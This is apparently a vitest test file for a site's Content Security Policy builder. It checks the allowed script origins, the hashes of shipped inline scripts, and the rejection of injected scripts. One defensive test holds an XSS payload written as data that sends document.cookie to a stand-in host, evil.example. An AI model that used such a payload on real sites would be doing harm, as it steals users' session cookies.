import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy, inlineScriptHashes } from './csp.js';
import {
  knownInlineScriptHashes,
  MOBILE_MENU_SCRIPT,
  SERVICE_WORKER_SCRIPT,
  TRACKER_STUB_SCRIPT,
} from './inline-scripts.js';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

describe('tenant content security policy', () => {
  it('allows scripts only from the site, the https origins its globals list and the shipped inline scripts', () => {
    const policy = contentSecurityPolicy([
      'https://plausible.io',
      'http://insecure.example',
      'https://x.io/path',
    ]);
    expect(policy).toMatch(/^script-src 'self' https:\/\/plausible\.io 'sha256-/);
    expect(policy).not.toContain('insecure.example');
    expect(policy).not.toContain('x.io');
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("frame-ancestors 'self'");
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
  });

  it("allows the service-worker registration, the tracker stub, the mobile menu and Astro's island bootstrap", () => {
    const policy = contentSecurityPolicy([]);
    expect(policy).toContain(sha(SERVICE_WORKER_SCRIPT));
    expect(policy).toContain(sha(TRACKER_STUB_SCRIPT));
    expect(policy).toContain(sha(MOBILE_MENU_SCRIPT));
    expect(knownInlineScriptHashes()).toHaveLength(13);
  });

  it('does not allow an inline script injected into a page, whatever the page contains', () => {
    const injected = '<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>';
    const policy = contentSecurityPolicy([]);
    for (const hash of inlineScriptHashes(injected)) expect(policy).not.toContain(hash);
    // The policy is a function of the site's settings only: the same for any page body.
    expect(contentSecurityPolicy([])).toBe(policy);
  });

  it('hashes executable inline scripts and skips external and data scripts', () => {
    const html =
      '<script>boot()</script><script type="module">go()</script><script src="/a.js"></script>' +
      '<script type="application/ld+json">{"a":1}</script>';
    expect(inlineScriptHashes(html)).toEqual([sha('boot()'), sha('go()')]);
  });
});
